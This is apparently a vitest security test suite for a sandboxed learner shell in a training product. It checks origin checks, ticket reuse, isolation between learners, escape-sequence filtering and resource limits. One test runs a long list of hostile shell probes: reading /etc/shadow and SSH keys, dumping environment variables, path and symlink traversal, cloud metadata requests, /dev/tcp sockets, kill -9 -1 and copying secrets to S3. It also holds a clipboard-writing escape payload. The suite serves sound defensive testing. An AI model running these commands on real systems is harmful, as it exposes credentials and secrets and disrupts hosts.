import { homedir, release } from 'node:os'
import { dirname } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { install, type Installation } from '../support/server.ts'
import { connect, learner, openTerminal, plain, ticket, upgrade, type Learner } from '../support/terminal.ts'

let installation: Installation
let url: string
let alice: Learner
let bob: Learner
beforeAll(async () => {
  // Nothing is deployed here, so nobody has to wait for a worker.
  installation = await install({ role: 'api' })
  url = installation.server.url
  alice = await learner(installation.api, url)
  bob = await learner(installation.api, url)
})
afterAll(() => installation?.[Symbol.asyncDispose]())

test('no page of another origin, and nobody without a session, gets a socket', async () => {
  const { cookie } = alice
  const foreign = [
    'https://evil.example',
    'null',
    `${url}.evil.example`,
    url.replace('127.0.0.1', '127.0.0.2'),
    'http://sub.127.0.0.1',
    `${url}/`,
    url.replace('http', 'https'),
    '',
  ]
  for (const origin of foreign) expect(await upgrade(url, { cookie, origin }), origin).not.toBe(101)
  expect(await upgrade(url, { cookie })).not.toBe(101)
  expect(await upgrade(url, { origin: url })).not.toBe(101)
  expect(await upgrade(url, { origin: url, cookie: 'mcp-cloud.session_token=forged.sig' })).not.toBe(101)
  expect(await upgrade(url, { origin: url, authorization: `Bearer ${installation.api.key}` })).not.toBe(101)
  expect(await upgrade(url, { origin: url, cookie })).toBe(101)
})

test('a ticket is good once, for its own session, and programs get none', async () => {
  const used = await ticket(alice)
  const terminal = await openTerminal(alice, { ticket: used })
  await terminal.until('simulated')
  expect(await (await openTerminal(alice, { ticket: used })).closed).toBe(4403)
  expect(await (await openTerminal(bob, { ticket: await ticket(alice) })).closed).toBe(4403)
  expect(await (await openTerminal(bob, { ticket: 'made-up' })).closed).toBe(4403)
  expect((await installation.api.post('/api/v1/curriculum/terminal/ticket')).status).toBe(403)
  terminal.close()
})

test('one learner meets nothing of another: no terminal, file, history or world', async () => {
  const mine = await openTerminal(alice, { terminal: 'shared-name' })
  await mine.run('echo secret-of-alice > note.txt; aws ec2 create-vpc --cidr-block 10.99.0.0/16')
  const theirs = await openTerminal(bob, { terminal: 'shared-name', seq: 0 })
  const seen = plain(await theirs.run('ls -la ~ /tmp; cat ~/note.txt; history; aws ec2 describe-vpcs; cat /home/*/note.txt ../*/note.txt'))
  expect(seen).not.toContain('secret-of-alice\n')
  expect(seen).not.toContain('10.99.0.0')
  expect(theirs.screen()).not.toContain('create-vpc')
  theirs.send({ t: 'read', path: '../learner/note.txt' })
  await expect.poll(() => theirs.messages.findLast(({ t }) => t === 'file')).toMatchObject({ text: null })
  mine.close()
  theirs.close()
})

/** Where whoever runs the server keeps their own things. */
const OWN = homedir()
const CHECKOUT = dirname(fileURLToPath(new URL('../../package.json', import.meta.url)))
/** What lies beside the product, unless the lines name it themselves or the shell has a folder of that name. */
const BESIDE = [dirname(CHECKOUT)].filter(
  (above) => ![OWN, '/home', '/tmp'].some((known) => `${known}/`.startsWith(`${above}/`) || above === '/'),
)

/** Lines that would reach the machine, its network, its variables or another learner, and what would show that they did. */
const REACHES = [
  'cat /etc/passwd /etc/shadow /etc/hostname /etc/hosts /etc/resolv.conf /etc/fstab /etc/machine-id',
  'cat /proc/1/environ /proc/self/environ /proc/self/cmdline /proc/self/maps /proc/cpuinfo /proc/version /proc/mounts',
  `ls -la / ${OWN} ${BESIDE.join(' ')} /home /opt /srv /mnt /var /var/lib /tmp /dev /sys /run /usr/local`,
  `cat ~/../../etc/shadow ../../../../../../etc/shadow ~/../..${OWN}/.ssh/id_rsa //etc//shadow /etc/./shadow`,
  'ln -s /etc/shadow x; cat x; ln -s / root; ls root/root; ln /etc/shadow y; cat y; readlink -f x; cp /etc/shadow z; cat z',
  'cd /proc/self/root && ls; cd /proc/1/root && ls; ls /dev/fd /dev/shm; cat /dev/mem /dev/kmsg',
  'find / -maxdepth 3 -name "*.key" -o -maxdepth 3 -name "admin-api-key" -o -maxdepth 3 -name "*.sock"',
  'env; export -p; set; declare -p; printenv; awk \'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}\'; jq -n env; jq -n "\\$ENV"',
  'python3 -c "import os; print(os.listdir(\'/\'))"; node -e "console.log(process.env)"; perl -e "print %ENV"; ruby -e 1; php -r 1; sqlite3; js-exec 1',
  'awk \'BEGIN{system("id"); "id" | getline x; print x; getline y < "/etc/shadow"; print y}\'; sed "1e id" /etc/passwd; sed "w /etc/x" /etc/passwd; find / -exec id \\; | head -1',
  'xargs -a /etc/shadow echo; tar cf - /etc/shadow | tar tf -; gzip -c /etc/shadow | wc -c; base64 /etc/shadow; od /etc/shadow; strings /etc/shadow; rg . /etc/shadow; diff /etc/shadow /dev/null',
  'curl http://127.0.0.1:8080/; wget http://169.254.169.254/latest/meta-data/; echo > /dev/tcp/127.0.0.1/8080; exec 3<>/dev/tcp/127.0.0.1/5432; cat < /dev/udp/127.0.0.1/53; html-to-markdown http://127.0.0.1',
  'nc 127.0.0.1 80; ssh root@127.0.0.1; ping -c 1 127.0.0.1; ps aux; kill -9 1; kill -9 -1; top; mount; df; uname -a; hostname; whoami; id; w; who; last',
  `bash -c "cat /etc/shadow"; sh -c env; eval "cat /etc/shadow"; source /etc/shadow; . ${OWN}/.profile; exec bash; command cat /etc/shadow; builtin echo x; enable -f /lib/x.so x`,
  'echo $BASH_ENV $NODE_OPTIONS $PATH $DATABASE_URL $HOME ~root ~postgres; BASH_ENV=/etc/shadow bash -c true; LD_PRELOAD=/x cat /etc/shadow; PATH=/bin:/usr/bin ls /bin',
  'x=__proto__; declare -A a; a[__proto__]=1; a[constructor]=2; echo ${a[constructor]} ${a[__proto__]}; __proto__=1; echo $__proto__; constructor() { echo own; }; constructor',
  String.raw`printf "%s" "$(</etc/shadow)"; mapfile -t l < /etc/shadow; echo "${'${l[@]}'}"; read -r v < /proc/self/environ; echo "$v"; cat <(cat /etc/shadow); echo /etc/sh*; echo ${OWN}/* ~/../*`,
  'terraform -chdir=/etc version; terraform -chdir=../.. init; aws s3 cp /etc/shadow s3://b/; aws ec2 describe-vpcs --cli-input-json file:///etc/shadow; aws ec2 describe-vpcs --query file:///proc/self/environ --endpoint-url http://127.0.0.1:8080',
  'gcloud compute networks list --flags-file=/etc/shadow; gcloud compute networks list --format="value(/etc/shadow)"; nano /etc/shadow; vim ../../etc/passwd; man ../../etc/passwd; less /etc/shadow < /dev/null | cat',
]

test('nothing of the machine is in the shell, whatever is tried', async () => {
  const terminal = await openTerminal(bob)
  let seen = ''
  for (const line of REACHES) seen += plain(await terminal.run(`${line} 2>&1 | cat; true`))
  const reached =
    /root:[$*!x]:\d{5}|root:\*|daemon:|postgres:|DATABASE|DATA_DIR|NODE_|node_modules|BEGIN OPENSSH|ssh-rsa|admin-api-key$|instance-id|model name|uid=0|own uid/m
  expect(seen).not.toContain(release())
  const answers = seen.replaceAll(/^.*learner@sandbox.*$/gm, '')
  expect(reached.exec(answers)?.[0]).toBeUndefined()
  for (const place of [CHECKOUT, ...BESIDE]) expect(answers).not.toContain(`${place}/`)
  expect(plain(await terminal.run('cat /etc/passwd'))).toMatch(/learner:x:1000/)
  terminal.close()
})

test('three terminals a person, and messages that are none end the socket', async () => {
  const carol = await learner(installation.api, url)
  const open = [await openTerminal(carol), await openTerminal(carol), await openTerminal(carol)]
  for (const terminal of open) await terminal.until('simulated')
  expect(await (await openTerminal(carol)).closed).toBe(4429)
  for (const garbage of ['{', '[]', '{"t":"root"}', '{"t":"in","data":1}', '{"t":"size","columns":1e9,"rows":1}', '{"t":"open"}']) {
    const socket = connect(url, { cookie: bob.cookie, origin: url })
    const code = new Promise((resolve) => socket.on('close', resolve))
    socket.on('open', () => socket.send(garbage))
    expect(await code, garbage).toBe(4400)
  }
  for (const terminal of open) terminal.close()
})

test('what a program prints cannot write the clipboard or answer as input', async () => {
  const terminal = await openTerminal(bob)
  await terminal.until('simulated')
  const from = terminal.screen().length
  await terminal.run(String.raw`printf '\033]52;c;ZXZpbA==\007\033[6n\033[c\033]0;x\007\033P$qm\033\\\033[?1003hvisible\n'`)
  const shown = terminal.screen().slice(from)
  // oxlint-disable-next-line no-control-regex
  expect(shown).not.toMatch(/\u001b(\]|P|_|\^|\[6n|\[c|\[\?1003)/)
  expect(shown).toContain('visible')
  terminal.close()
})

test('the worst lines of one learner keep nobody else from working', async () => {
  const bad = await openTerminal(alice)
  const good = await openTerminal(bob)
  await good.run('echo ready')
  bad.type("seq 1 900 | awk '{for(i=0;i<9000;i++)s+=i} END{print s}'\r")
  for (let index = 0; index < 5; index++) expect(plain(await good.run(`echo still ${index}`))).toContain(`still ${index}`)
  await bad.until(/more than 2 s of processor time/)
  expect(plain(await bad.run('echo back'))).toContain('back')
  bad.close()
  good.close()
})

test('a terminal closes soon after its session has ended', async () => {
  const dave = await learner(installation.api, url)
  const terminal = await openTerminal(dave)
  await terminal.until('simulated')
  expect((await dave.api.post('/api/auth/sign-out', {})).status).toBe(200)
  expect(await terminal.closed).toBe(4401)
})
